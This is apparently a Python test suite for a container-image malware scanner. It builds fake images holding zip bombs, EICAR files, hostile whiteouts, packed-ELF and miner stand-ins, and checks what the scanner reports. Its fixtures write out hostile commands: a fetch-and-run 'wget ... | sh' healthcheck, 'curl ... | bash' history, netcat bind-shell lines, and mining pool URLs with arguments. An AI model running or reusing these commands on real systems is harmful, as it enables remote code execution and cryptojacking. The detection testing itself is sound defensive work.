    reasons = [(i["path"], i["reason"]) for i in r.json["incomplete"]]
    ok(any(p.startswith("/a.zip!") and "local header" in why for p, why in reasons), "a.zip: %s" % reasons)
    ok(any(p == "/b.zip" and "central directory" in why for p, why in reasons), "b.zip: %s" % reasons)


@case
def nested_bomb_is_bounded():
    import io as _io
    import zipfile
    root = d("zipbomb")
    big = _zip({"zeros%d.bin" % i: bytes(8 << 20) for i in range(6)})  # 48 MiB from ~50 KB
    oci_image(root, [Layer([E("bomb.zip", big)])])
    r = scan("--max-file-size", "16M", root)
    eq(r.rc, 0, r.err)
    ok(any("nested archive" in i["reason"] for i in r.json["incomplete"]), "incomplete: %s" % r.json["incomplete"])
    rss_ok(r)


@case
def nested_past_max_depth_is_incomplete():
    """EICAR five .tar.gz deep: at the default --max-depth 4 the fifth level
    is not expanded, and that is said (never a clean verdict)."""
    import io as _io
    data, name = EICAR, "eicar.com"
    for level in range(5):
        b = _io.BytesIO()
        with tarfile.open(fileobj=b, mode="w:gz") as t:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, _io.BytesIO(data))
        data, name = b.getvalue(), "l%d.tar.gz" % level
    root = d("deep5")
    oci_image(root, [Layer([E("opt", kind="dir"), E("opt/l4.tar.gz", data)])])
    r = scan(root)
    eq(r.findings("SW-TEST-EICAR"), [], "the fifth level is not read at depth 4")
    deep = "/opt/l4.tar.gz!l3.tar.gz!l2.tar.gz!l1.tar.gz!l0.tar.gz"
    inc = [i for i in r.json["incomplete"] if i["path"] == deep]
    eq(len(inc), 1, "one incomplete for the unexpanded level: %s" % r.json["incomplete"])
    ok("deeper than --max-depth 4" in inc[0]["reason"], inc[0]["reason"])
    f = [f for f in r.findings("SW-INCOMPLETE") if f["path"] == deep]
    eq(len(f), 1, "an SW-INCOMPLETE finding names it: %s" % r.findings("SW-INCOMPLETE"))
    eq(f[0]["layer"], 0, "layer")
    eq(r.json["verdict"], "suspicious", "never clean")
    r5 = scan("--max-depth", "5", root)
    one_finding(r5, "SW-TEST-EICAR", deep + "!eicar.com", 0)
    eq([i for i in r5.json["incomplete"] if "max-depth" in i["reason"]], [], "at depth 5 all is read")


@case
def hostile_whiteouts_are_findings():
    """A whiteout naming "..", "." or "" (an attack on whatever unpacks the
    image) is a high finding, at its layer, in a layer or in a nested tar,
    and is never applied to the merged view."""
    import io as _io
    inner = _io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w:gz") as t:
        for n in ("rootfs/etc/.wh...", "rootfs/x"):
            ti = tarfile.TarInfo(n)
            t.addfile(ti, _io.BytesIO(b""))
    root = d("whdotdot")
    oci_image(root, [base_layer([E("etc", kind="dir"), E("etc/eicar.com", EICAR), E("opt", kind="dir")]),
                     Layer([E("etc/.wh..."), E(".wh.."),
                            E("opt/.wh."), E("opt/layer.tar.gz", inner.getvalue())])])
    r = scan(root)
    eq(r.rc, 1, r.err)
    for path in ("/etc/.wh...", "/.wh..", "/opt/.wh."):
        f = one_finding(r, "SW-WHITEOUT-ESCAPE", path, 1, final=False)
        eq((f["severity"], f["category"]), ("high", "escape"), path)
    one_finding(r, "SW-WHITEOUT-ESCAPE", "/opt/layer.tar.gz!rootfs/etc/.wh...", 1)
    eq(one_finding(r, "SW-WHITEOUT-ESCAPE", "/etc/.wh...", 1, final=False)["evidence"]["deletes"], "..", "evidence")
    # never applied: what the lower layer put in /etc and / is still there
    one_finding(r, "SW-TEST-EICAR", "/etc/eicar.com", 0, final=True)
    eq(r.json["verdict"], "malicious", "verdict")


@case
def hard_link_flood_is_a_finding():
    """3,000 hard links to one 1 MiB file: 3 GiB for an unpacker that copies
    links. A medium finding on the target (git's hundred names for one
    program are far below the bound)."""
    root = d("hlflood")
    ents = [E("data", kind="dir"), E("data/big", os.urandom(1 << 20))]
    ents += [E("data/l%04d" % i, kind="hardlink", link="data/big") for i in range(3000)]
    ents += [E("data/m%03d" % i, kind="hardlink", link="data/l0000") for i in range(100)]
    oci_image(root, [Layer(ents)])
    r = scan(root)
    eq(r.rc, 0, r.err)
    f = one_finding(r, "SW-HARDLINK-FLOOD", "/data/big", 0)
    eq((f["severity"], f["evidence"]["hard_links"]), ("medium", 3000), "severity and count")
    eq(len(r.findings("SW-HARDLINK-FLOOD")), 1, "a hundred links stay quiet")
    eq(r.json["verdict"], "suspicious", "verdict")


@case
def unlisted_incompletes_are_a_finding_too():
    """Past 1,000 incomplete entries in a layer the rest are counted in one
    line: that line raises SW-INCOMPLETE like every other."""
    root = d("manyinc")
    oci_image(root, [Layer([E("../x%04d" % i, b"x") for i in range(1010)])])
    r = scan(root)
    line = [i for i in r.json["incomplete"] if "not listed" in i["reason"]]
    eq(len(line), 1, "one counting line: %s" % line[:1])
    ok(line[0]["reason"].startswith("10 more incomplete entries"), line[0]["reason"])
    f = [x for x in r.findings("SW-INCOMPLETE") if "not listed" in x["title"]]
    eq(len(f), 1, "its finding")
    eq((f[0]["layer"], f[0]["path"]), (0, None), "layer, no path")


@case
def empty_directory_is_an_error_and_help_works_everywhere():
    empty = d("empty-dir")
    r = scan("dir:" + empty)
    error_run(r, "an empty directory is not an image")
    r = scan(empty)
    eq(r.rc, 2, "a bare empty directory too: " + r.err)
    for argv in (["policy", "lint", "--help"], ["policy", "--help"], ["policy", "lint", "-h"]):
        p = subprocess.run([BIN] + argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        eq(p.returncode, 0, "%s: %s" % (argv, p.stderr.decode()))
        ok(p.stdout.startswith(b"usage: stowaway policy"), p.stdout[:80])


# ---------------------------------------------------------------- hostile sources

def _fifo(path):
    if os.path.lexists(path):
        os.unlink(path)
    os.mkfifo(path)


def _socket(path):
    import socket
    if os.path.lexists(path):
        os.unlink(path)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    cwd = os.getcwd()
    os.chdir(os.path.dirname(path))  # a bind path is short: 108 bytes
    try:
        s.bind(os.path.basename(path))
    finally:
        os.chdir(cwd)
        s.close()


@case
def fifos_and_sockets_in_sources_never_hang():
    """A FIFO anywhere an image source is read (index.json, a manifest or
    layer blob, the archive itself) would block open() forever: each is
    refused at once with an error naming it; in a dir: source it is an
    entry like a device."""
    base = d("fifo")
    img = os.path.join(base, "img")
    oci_image(img, [Layer([E("etc", kind="dir"), E("etc/x", b"x")])])
    idx = json.load(open(os.path.join(img, "index.json")))
    mdig = idx["manifests"][0]["digest"][7:]
    man = json.load(open(os.path.join(img, "blobs", "sha256", mdig)))
    ldig = man["layers"][0]["digest"][7:]
    kinds = [("fifo", _fifo), ("socket", _socket)]
    if os.geteuid() == 0:
        kinds.append(("chardev", lambda p: (os.path.lexists(p) and os.unlink(p),
                                            os.mknod(p, 0o600 | 0o020000, os.makedev(1, 3)))))
    for kind, make in kinds:
        for what, rel in (("index.json", "index.json"), ("manifest blob", "blobs/sha256/" + mdig),
                          ("layer blob", "blobs/sha256/" + ldig)):
            bad = os.path.join(base, "%s-%s" % (kind, what.replace(" ", "-")))
            shutil.rmtree(bad, ignore_errors=True)
            shutil.copytree(img, bad)
            make(os.path.join(bad, rel))
            for cmd in (["scan", "--quiet", "--format", "json"], ["unpack"], ["detonate", "--format", "json"]):
                argv = [BIN] + cmd + ["oci:" + bad] + ([os.path.join(base, "t-%s-%s" % (kind, what[0]))]
                                                       if cmd == ["unpack"] else [])
                try:
                    p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
                except subprocess.TimeoutExpired:
                    raise AssertionError("%s as a %s: %s hangs" % (what, kind, cmd[0]))
                err = p.stderr.decode()
                eq(p.returncode, 2, "%s as a %s, %s: exit code (%s)" % (what, kind, cmd[0], err))
                ok(rel.split("/")[-1] in err and ("not a regular file" in err), "%s: %s" % (what, err))
        # the archive itself
        arch = os.path.join(base, "archive-" + kind)
        make(arch)
        for pre in ("oci-archive:", "docker-archive:", ""):
            try:
                p = subprocess.run([BIN, "scan", "--quiet", pre + arch], stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, timeout=30)
            except subprocess.TimeoutExpired:
                raise AssertionError("%s%s hangs" % (pre, kind))
            eq(p.returncode, 2, "%s%s: %s" % (pre, kind, p.stderr.decode()))
    # a dir: source holding a FIFO and a socket: walked, never opened
    rootfs = os.path.join(base, "rootfs")
    os.makedirs(os.path.join(rootfs, "etc"), exist_ok=True)
    with open(os.path.join(rootfs, "etc", "eicar.com"), "wb") as f:
        f.write(EICAR)
    _fifo(os.path.join(rootfs, "etc", "pipe"))
    _socket(os.path.join(rootfs, "etc", "sock"))
    try:
        r = scan("dir:" + rootfs, timeout=30)
    except subprocess.TimeoutExpired:
        raise AssertionError("dir: with a FIFO hangs")
    eq(r.rc, 0, r.err)
    ok(any(f["path"] == "/etc/eicar.com" for f in r.findings("SW-TEST-EICAR")), "the regular file is scanned")


# ---------------------------------------------------------------- heuristics

def packed_elf(marker=True, size=65536):
    """A test-only packer stand-in (Debian 12 has no upx): an ELF64 header
    with no section headers, a first PT_LOAD that is memory only (where a
    packer unpacks to), a second holding random bytes, and optionally UPX's
    "UPX!" magic. It is not a runnable program."""
    body = os.urandom(size)
    phoff, phnum = 64, 2
    hdr = (b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000,
           phoff, 0, 0, 64, 56, phnum, 64, 0, 0))
    ph1 = struct.pack("<IIQQQQQQ", 1, 6, 0, 0x400000, 0x400000, 0, 0x200000, 0x1000)
    ph2 = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x600000, 0x600000, size, size, 0x1000)
    return hdr + ph1 + ph2 + (b"UPX!" if marker else b"") + body


@case
def heuristics_score_packers_places_and_permissions():
    root = d("heur")
    static_elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0,
                                                               64, 56, 0, 64, 0, 0) + b"plain code" * 100
    oci_image(root, [base_layer([
        E("usr", kind="dir"), E("usr/bin", kind="dir"), E("usr/local", kind="dir"), E("usr/local/bin", kind="dir"),
        E("usr/bin/.sshd", packed_elf(True), mode=0o755),
        E("tmp", kind="dir"), E("tmp/kworker", packed_elf(False), mode=0o755),
        E("usr/bin/tool", static_elf, mode=0o755),
        # UPX's notice alone, past the first 4 KiB where "UPX!" is looked for
        E("usr/bin/noted", static_elf + bytes(8192) + b"$Info: This file is packed with the UPX executable packer $",
          mode=0o755),
        E("usr/bin/passwd", b"#!stand-in\n", mode=0o4755),
        E("usr/local/bin/helper", b"#!stand-in\n", mode=0o4755),
        E("usr/local/bin/capped", b"#!stand-in\n", mode=0o755,
          pax={"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}),
    ])])
    r = scan(root)
    upx = one_finding(r, "SW-HEUR-PACKED", "/usr/bin/.sshd", 0)
    eq((upx["severity"], upx["category"]), ("high", "packed"), "UPX marks + hidden name")
    sig = [x["signal"] for x in upx["evidence"]["signals"]]
    ok("UPX packer marks" in sig and "hidden (dot) name in a system folder" in sig, "signals %s" % sig)
    alt = one_finding(r, "SW-HEUR-PACKED", "/tmp/kworker", 0)
    sig = [x["signal"] for x in alt["evidence"]["signals"]]
    ok("UPX-shaped layout with the packer magic removed" in sig, "altered UPX: %s" % sig)
    ok("executable named like a kernel thread" in sig and "executable under a temporary directory" in sig,
       "place signals: %s" % sig)
    eq(alt["severity"], "high", "combination is high")
    paths = {f["path"]: f for f in r.json["findings"] if f["id"].startswith("SW-HEUR")}
    ok("/usr/bin/tool" not in paths, "one weak signal (static) is no finding")
    sig = [x["signal"] for x in paths["/usr/bin/noted"]["evidence"]["signals"]]
    ok("UPX packer marks" in sig, "the notice: %s" % sig)
    # stowaway itself carries no needle that its own scan would find
    own = d("heur-own")
    with open(BIN, "rb") as f:
        oci_image(own, [base_layer([E("usr", kind="dir"), E("usr/bin", kind="dir"),
                                    E("usr/bin/stowaway", f.read(), mode=0o755)])])
    r = scan(own)
    eq([f["id"] for f in r.json["findings"] if f["path"] == "/usr/bin/stowaway"], [], "stowaway's own binary")
    ok("/usr/bin/passwd" not in paths, "setuid passwd is what Debian ships")
    eq(paths["/usr/local/bin/helper"]["severity"], "low", "unknown setuid alone is low")
    eq(paths["/usr/local/bin/capped"]["severity"], "low", "unknown file capabilities alone are low")


# ---------------------------------------------------------------- config and history

FAKE_WALLET = "4" + "AbCdEfGhJk" * 9 + "MnPq"  # 95 base58 characters: the shape only


def compile_standin(name, *flags):
    """Build a stand-in from tests/fixtures/standins/NAME.c with the system C
    compiler (never run here: only its bytes go into an image)."""
    out = os.path.join(WORK, "standin-" + name + "".join(f.strip("-") for f in flags))
    src = os.path.join(os.path.dirname(HERE), "fixtures", "standins", name + ".c")
    subprocess.run(["cc", "-O2", "-o", out, src] + list(flags), check=True)
    return open(out, "rb").read()


@case
def compiled_miner_standin_hidden_as_kernel_thread():
    """A real ELF built from C (option table, usage text, stratum login, pool
    list), static and stripped like dropped miners, hidden as a kernel-thread
    name in a dot directory: the family rule and the heuristics both see it."""
    miner = compile_standin("miner", "-static", "-s")
    root = d("compiled")
    oci_image(root, [base_layer(),
                     Layer([E("usr/lib/.cache/kworker", miner, mode=0o755)],
                           created_by="COPY kworker /usr/lib/.cache/kworker")])
    r = scan(root)
    eq(r.rc, 1, r.err)
    f = one_finding(r, "SW-MINER-XMRIG", "/usr/lib/.cache/kworker", 1)
    eq(f["severity"], "critical", "severity")
    h = one_finding(r, "SW-HEUR-SUSPICIOUS-FILE", "/usr/lib/.cache/kworker", 1)
    ok(h["severity"] in ("medium", "high"), "kernel-thread name + dot dir + static: %s" % h["severity"])


@case
def config_and_history_reveal_the_miner():
    import base64
    root = d("cfg")
    layers = [base_layer(created_by="RUN curl -fsSL https://deb.example.invalid/setup_20.x | bash -"),
              Layer([E("x", b"x")], created_by="COPY x /")]
    hidden_pool = base64.b64encode(b"stratum+tcp://pool.c3pool.com:13333").decode()
    oci_image(root, layers, cfg_extra={
        "config": {"Entrypoint": ["/usr/bin/jupdate"],
                   "Cmd": ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", FAKE_WALLET,
                           "--donate-level", "1"],
                   "Env": ["PATH=/usr/bin:/bin", "POOL_B64=" + hidden_pool],
                   "ExposedPorts": {"14444/tcp": {}, "8080/tcp": {}},
                   "Healthcheck": {"Test": ["CMD-SHELL", "wget -qO- http://x.invalid/h.sh | sh"]}},
        "history": [{"created_by": "/bin/sh -c #(nop) ENV A=b", "empty_layer": True},
                    {"created_by": layers[0].created_by}, {"created_by": layers[1].created_by}]})
    r = scan(root)
    eq(r.rc, 1, r.err)
    by = {}
    for f in r.json["findings"]:
        by.setdefault(f["id"], []).append(f)
    ids = sorted(by)
    for want in ("SW-CONFIG-FETCH-EXEC", "SW-CONFIG-MINER-ARGS", "SW-CONFIG-POOL", "SW-CONFIG-WALLET",
                 "SW-HISTORY-FETCH-EXEC"):
        ok(want in by, "%s in %s" % (want, ids))
    start = [f for f in by["SW-CONFIG-MINER-ARGS"] if f["evidence"]["field"] == "Entrypoint+Cmd"][0]
    eq((start["severity"], start["category"], start["path"], start["layer"]), ("critical", "miner", None, None),
       "miner options at start")
    eq(start["evidence"]["user"], "root (no User set)", "who the start command runs as")
    eq([(f["evidence"]["value"], f["evidence"]["match"], f["severity"]) for f in by["SW-CONFIG-PORT"]],
       [("14444/tcp", "mining proxy", "medium")], "a mining port with mining settings is medium; 8080 is nothing")
    eq(by["SW-CONFIG-WALLET"][0]["evidence"]["match"], FAKE_WALLET, "wallet")
    decoded = [f for f in by["SW-CONFIG-POOL"] if f["evidence"]["field"] == "Env"]
    ok(decoded and decoded[0]["evidence"]["decoded"].startswith("stratum+tcp://pool.c3pool.com"),
       "base64 pool decoded: %s" % decoded)
    hc = by["SW-CONFIG-FETCH-EXEC"][0]
    eq((hc["severity"], hc["category"]), ("high", "dropper"), "fetch-and-exec at start")
    h = by["SW-HISTORY-FETCH-EXEC"][0]
    eq((h["severity"], h["layer"], h["created_by"]), ("low", 0, layers[0].created_by),
       "history step attributed to its layer")
    eq(r.json["verdict"], "malicious", "verdict")


@case
def config_ports_and_user_alone():
    """A port alone is a weak signal (docker:dind exposes 2375): low, and
    the image stays clean of high findings."""
    root = d("cfgports")
    oci_image(root, [base_layer()], cfg_extra={
        "config": {"Entrypoint": ["/bin/sh"], "User": "1000:1000",
                   "ExposedPorts": {"2375/tcp": {}, "2376": {}, "80/tcp": {}, "x/tcp": {}, "3333/udp": {}}}})
    r = scan(root)
    eq(r.rc, 0, r.err)
    got = sorted((f["evidence"]["value"], f["severity"]) for f in r.json["findings"] if f["id"] == "SW-CONFIG-PORT")
    eq(got, [("2375/tcp", "low"), ("2376", "low"), ("3333/udp", "low")], "ports")


DAO_PY = (b"#!/usr/bin/env python3\n# launcher stand-in, shaped like the reported dao.py\n"
          b"import subprocess\n"
          b"subprocess.Popen(['/usr/share/.java/jupdate', '-c', '/usr/share/.java/config.json'])\n")


@case
def entrypoint_chain_links_launcher_and_payload():
    root = d("chain1")
    oci_image(root, [
        base_layer([E("usr", kind="dir"), E("usr/bin", kind="dir"),
                    E("usr/bin/python3", b"\x7fELF stand-in interpreter", mode=0o755)]),
        Layer([E("opt", kind="dir"), E("opt/app", kind="dir"), E("opt/app/dao.py", DAO_PY, mode=0o644),
               E("usr/share", kind="dir"), E("usr/share/.java", kind="dir"),
               E("usr/share/.java/jupdate", MINER_STANDIN, mode=0o755)],
              created_by="COPY . /")],
        cfg_extra={"config": {"Entrypoint": ["python3", "dao.py"], "WorkingDir": "/opt/app",
                              "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"]}})
    r = scan(root)
    eq(r.rc, 1, r.err)
    m = one_finding(r, "SW-MINER-XMRIG", "/usr/share/.java/jupdate", 1)
    eq((m["evidence"]["runs_at_start"], m["evidence"]["started_by"]), (True, "/opt/app/dao.py"),
       "the payload knows its launcher")
    l = one_finding(r, "SW-LAUNCHER", "/opt/app/dao.py", 1)
    eq((l["severity"], l["category"]), ("critical", "miner"), "launcher takes the payload's severity")
    eq(l["evidence"]["starts"], "/usr/share/.java/jupdate", "the launcher names what it starts")
    ok("SW-MINER-XMRIG" in l["evidence"]["target_findings"], "and why it matters")
    table = scan(root, fmt="table").out
    ok("starts: /usr/share/.java/jupdate (layer 1)" in table, "the table names what the launcher starts: " + table)


@case
def entrypoint_chain_through_symlinks_and_scripts():
    root = d("chain2")
    oci_image(root, [
        base_layer([E("usr", kind="dir"), E("usr/local", kind="dir"), E("usr/local/bin", kind="dir"),
                    E("usr/local/bin/entry.sh", b"#!/bin/sh\nset -e\nexec /srv/run.sh \"$@\"\n", mode=0o755),
                    E("docker-entrypoint.sh", kind="symlink", link="usr/local/bin/entry.sh"),
                    E("srv", kind="dir"),
                    E("srv/run.sh", b"#!/bin/sh\nnohup /var/tmp/.x/kworker >/dev/null 2>&1 &\n", mode=0o755),
                    E("var", kind="dir"), E("var/tmp", kind="dir"), E("var/tmp/.x", kind="dir"),
                    E("var/tmp/.x/kworker", MINER_STANDIN, mode=0o755)])],
        cfg_extra={"config": {"Entrypoint": ["/docker-entrypoint.sh"], "Cmd": ["serve"]}})
    r = scan(root)
    m = one_finding(r, "SW-MINER-XMRIG", "/var/tmp/.x/kworker", 0)
    eq(m["evidence"]["started_by"], "/srv/run.sh", "started by the second script")
    l = one_finding(r, "SW-LAUNCHER", "/srv/run.sh", 0)
    eq(l["evidence"]["depth"], 2, "two scripts deep")
    eq(r.findings("SW-LAUNCHER")[0]["path"], "/srv/run.sh", "one launcher finding")


@case
def package_provenance_of_findings():
    """A finding on a file says which installed package lists it, from the
    package databases still in the final filesystem: dpkg (status and
    info/*.list, through merged /usr), distroless (status.d), apk; a file
    none lists says so; the same from the layer cache."""
    status = (b"Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\n\n"
              b"Package: gone\nStatus: deinstall ok config-files\nVersion: 1\n")
    lst = b"/.\n/bin\n/bin/tac\n/usr/bin/sort\n"
    root = d("pkg-dpkg")
    oci_image(root, [
        base_layer([E("var/", kind="dir"), E("var/lib/dpkg/status", status),
                    E("var/lib/dpkg/info/coreutils:amd64.list", lst), E("usr/bin/", kind="dir"),
                    E("usr/bin/tac", EICAR, mode=0o755), E("usr/bin/sort", EICAR, mode=0o755)]),
        Layer([E("opt/", kind="dir"), E("opt/eicar", EICAR)], created_by="COPY eicar /opt/"),
        Layer([E("var/lib/dpkg/info/.wh.coreutils:amd64.list")], created_by="RUN rm coreutils.list")])
    r = scan(root)
    pk = {(f["path"], f["id"]): f["evidence"].get("package") for f in r.json["findings"]}
    eq(pk[("/opt/eicar", "SW-IOC-SHA256")], {"manager": "dpkg", "name": None}, "a file no package lists")
    eq(pk[("/usr/bin/tac", "SW-IOC-SHA256")], {"manager": "dpkg", "name": None},
       "the list a later layer removed is not read")
    root2 = d("pkg-dpkg2")
    oci_image(root2, [
        base_layer([E("var/", kind="dir"), E("var/lib/dpkg/status", status),
                    E("var/lib/dpkg/info/coreutils:amd64.list", lst), E("usr/bin/", kind="dir"),
                    E("usr/bin/tac", EICAR, mode=0o755)])])
    for attempt in ("scanned", "from the cache"):
        r = scan(root2)
        f = one_finding(r, "SW-IOC-SHA256", "/usr/bin/tac", 0)
        eq(f["evidence"]["package"], {"manager": "dpkg", "name": "coreutils", "version": "9.1-1",
                                      "architecture": "amd64"}, "dpkg lists /bin/tac, merged /usr: " + attempt)
    eq(r.json["stats"]["cache_hits"], 1, "the second scan came from the cache")
    root3 = d("pkg-apk")
    apk = b"P:busybox\nV:1.36.1-r15\nA:x86_64\nF:bin\nR:busybox\n\nP:musl\nV:1.2.4\nF:lib\nR:ld.so\n"
    oci_image(root3, [Layer([E("lib/", kind="dir"), E("lib/apk/db/installed", apk), E("bin/", kind="dir"),
                             E("bin/busybox", EICAR, mode=0o755)])])
    eq(one_finding(scan(root3), "SW-IOC-SHA256", "/bin/busybox", 0)["evidence"]["package"],
       {"manager": "apk", "name": "busybox", "version": "1.36.1-r15", "architecture": "x86_64"}, "apk")
    root4 = d("pkg-distroless")
    oci_image(root4, [Layer([E("var/lib/dpkg/status.d/base-files",
                               b"Package: base-files\nVersion: 12.4\nArchitecture: amd64\n"),
                             E("var/lib/dpkg/status.d/base-files.md5sums",
                               b"d41d8cd98f00b204e9800998ecf8427e  usr/lib/os-release\n"),
                             E("usr/lib/os-release", EICAR)])])
    eq(one_finding(scan(root4), "SW-IOC-SHA256", "/usr/lib/os-release", 0)["evidence"]["package"]["name"],
       "base-files", "distroless status.d")
    root5 = d("pkg-none")
    oci_image(root5, [Layer([E("opt/eicar", EICAR)])])
    ok("package" not in one_finding(scan(root5), "SW-IOC-SHA256", "/opt/eicar", 0)["evidence"],
       "no database: nothing said")


def md5hex(b):
    import hashlib
    return hashlib.md5(b).hexdigest()


@case
def package_digests_judge_findings_and_programs():
    """dpkg's md5sums against the files' bytes: a text pattern in data an
    installed package shipped, unmodified (nmap's NSE script with a bind
    shell line), is lowered to low and says so; the same file changed
    stays critical; an ELF in /usr/bin that its package recorded with
    another digest (a replaced ps) is SW-PKG-MODIFIED, high, unless
    dpkg-divert moved the package's file aside; a database that lists a
    planted miner or a planted script with their right digests lowers
    neither; the same from the layer cache."""
    nse = (b'description = [[Checks the UnrealIRCd backdoor.]]\n'
           b'-- the backdoor command used for the check:\nlocal cmd = "nc -l -p 4444 -e /bin/sh"\n')
    ps = b"\x7fELF\x02\x01\x01" + bytes(57) + b"procps ps stand-in, original\n" + bytes(200)
    trojan = b"\x7fELF\x02\x01\x01" + bytes(57) + b"procps ps stand-in, replaced\n" + bytes(200)
    shell = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
    status = (b"Package: nmap-common\nStatus: install ok installed\nArchitecture: all\nVersion: 7.93+dfsg1-1\n\n"
              b"Package: procps\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2:4.0.2-3\n\n")

    def image(name, nse_bytes, ps_bytes, extra_sums=b"", extra_files=(), diversions=None):
        sums_nmap = b"%s  usr/share/nmap/scripts/irc-unrealircd-backdoor.nse\n" % md5hex(nse).encode()
        sums_ps = b"%s  bin/ps\n" % md5hex(ps).encode() + extra_sums
        files = [E("var/", kind="dir"), E("var/lib/dpkg/status", status),
                 E("var/lib/dpkg/info/nmap-common.list", b"/usr/share/nmap/scripts/irc-unrealircd-backdoor.nse\n"),
                 E("var/lib/dpkg/info/nmap-common.md5sums", sums_nmap),
                 E("var/lib/dpkg/info/procps.list", b"/bin/ps\n/usr/bin/.kworker\n/usr/bin/helper\n"),
                 E("var/lib/dpkg/info/procps.md5sums", sums_ps),
                 E("usr/share/nmap/scripts/irc-unrealircd-backdoor.nse", nse_bytes),
                 E("usr/bin/ps", ps_bytes, mode=0o755)] + list(extra_files)
        if diversions is not None:
            files.append(E("var/lib/dpkg/diversions", diversions))
        root = d(name)
        oci_image(root, [base_layer(files)])
        return root

    # unmodified: lowered, and the evidence says from what
    root = image("pkgsum-ok", nse, ps)
    for attempt in ("scanned", "from the cache"):
        r = scan(root)
        f = one_finding(r, "SW-REVSHELL-NETCAT", "/usr/share/nmap/scripts/irc-unrealircd-backdoor.nse", 0)
        eq((f["severity"], f["evidence"].get("lowered_from"), f["evidence"]["package"].get("unmodified"),
            f["evidence"]["package"].get("name")), ("low", "critical", True, "nmap-common"), "nse: " + attempt)
        eq([x for x in r.json["findings"] if x["id"] == "SW-PKG-MODIFIED"], [], "ps as installed: " + attempt)
    eq(r.json["stats"]["cache_hits"], 1, "the second scan came from the cache")
    # changed after installation: stays critical
    r = scan(image("pkgsum-changed", nse + b"-- edited\n", ps))
    f = one_finding(r, "SW-REVSHELL-NETCAT", "/usr/share/nmap/scripts/irc-unrealircd-backdoor.nse", 0)
    eq((f["severity"], f["evidence"]["package"].get("unmodified"), "lowered_from" in f["evidence"]),
       ("critical", False, False), "a changed nse")
    # a replaced ps: found, with both digests, in the layer that wrote it
    root = image("pkgsum-trojan", nse, trojan)
    for attempt in ("scanned", "from the cache"):
        r = scan(root)
        f = one_finding(r, "SW-PKG-MODIFIED", "/usr/bin/ps", 0)
        eq((f["severity"], f["category"], f["evidence"]["md5"], f["evidence"]["recorded_md5"],
            f["evidence"]["package"]["name"]), ("high", "backdoor", md5hex(trojan), md5hex(ps), "procps"),
           "replaced ps: " + attempt)
    eq(r.json["verdict"], "malicious", "a replaced ps is a malicious verdict")
    # dpkg-divert moved procps's ps aside: the file at /bin/ps is another's
    r = scan(image("pkgsum-diverted", nse, trojan, diversions=b"/bin/ps\n/bin/ps.procps\nother-pkg\n"))
    eq([x for x in r.json["findings"] if x["id"] == "SW-PKG-MODIFIED"], [], "a diverted ps")
    # the database is the attacker's too: a planted miner and a planted
    # script listed with their right digests keep their severity
    helper = b"#!/bin/sh\n" + shell[10:]
    r = scan(image("pkgsum-planted", nse, ps,
                   extra_sums=b"%s  usr/bin/.kworker\n%s  usr/bin/helper\n" % (md5hex(MINER_STANDIN).encode(),
                                                                         md5hex(helper).encode()),
                   extra_files=[E("usr/bin/.kworker", MINER_STANDIN, mode=0o755),
                                E("usr/bin/helper", helper, mode=0o755)]))
    miner = [x for x in r.json["findings"] if x["path"] == "/usr/bin/.kworker" and x["detector"] == "yara"]
    ok(miner and all(x["severity"] in ("high", "critical") and "lowered_from" not in x["evidence"] and
                     x["evidence"]["package"]["unmodified"] is True for x in miner),
       "a planted miner the database lists keeps its severity: %r" % [(x["id"], x["severity"]) for x in miner])
    f = one_finding(r, "SW-REVSHELL-NETCAT", "/usr/bin/helper", 0)
    eq((f["severity"], "lowered_from" in f["evidence"]), ("critical", False), "a planted script the database lists")
    eq(r.json["verdict"], "malicious", "verdict")


@case
def apk_digests_judge_programs():
    """apk records each file's SHA-1 (Z:Q1, base64): a replaced busybox is
    SW-PKG-MODIFIED with both digests; the original is not; a finding on an
    unmodified file says so."""
    import base64
    import hashlib
    orig = b"\x7fELF\x02\x01\x01" + bytes(57) + b"busybox stand-in, original\n" + bytes(100)
    evil = b"\x7fELF\x02\x01\x01" + bytes(57) + b"busybox stand-in, replaced\n" + bytes(100)

    def q1(b):
        return "Q1" + base64.b64encode(hashlib.sha1(b).digest()).decode()
    apk = ("C:Q1xxxx\nP:busybox\nV:1.36.1-r15\nA:x86_64\nF:bin\nR:busybox\na:0:0:755\nZ:%s\n\n"
           "P:eicar-data\nV:1\nA:noarch\nF:usr/share/eicar\nR:eicar.com\nZ:%s\n" % (q1(orig), q1(EICAR))).encode()
    for name, content, want in (("apk-ok", orig, []), ("apk-evil", evil, ["/bin/busybox"])):
        root = d(name)
        oci_image(root, [Layer([E("lib/", kind="dir"), E("lib/apk/db/installed", apk), E("bin/", kind="dir"),
                                E("bin/busybox", content, mode=0o755),
                                E("usr/share/eicar/eicar.com", EICAR)])])
        r = scan(root)
        mods = [f for f in r.json["findings"] if f["id"] == "SW-PKG-MODIFIED"]
        eq([f["path"] for f in mods], want, name)
        for f in mods:
            eq((f["evidence"]["sha1"], f["evidence"]["recorded_sha1"], f["evidence"]["package"]["name"]),
               (hashlib.sha1(evil).hexdigest(), hashlib.sha1(orig).hexdigest(), "busybox"), "evidence")
        f = one_finding(r, "SW-IOC-SHA256", "/usr/share/eicar/eicar.com", 0)
        eq((f["evidence"]["package"]["name"], f["evidence"]["package"].get("unmodified"), f["severity"]),
           ("eicar-data", True, "medium"), "an IOC hit on an unmodified apk file is not lowered")
    # rpm's databases are not read yet: said at info, the verdict untouched
    root = d("rpmdb")
    oci_image(root, [Layer([E("var/lib/rpm/Packages.db", bytes(100)),
                            E("usr/lib/sysimage/rpm/Packages", bytes(64)),
                            E("var/lib/rpm/rpmdb.sqlite", b"not a database at all")])])
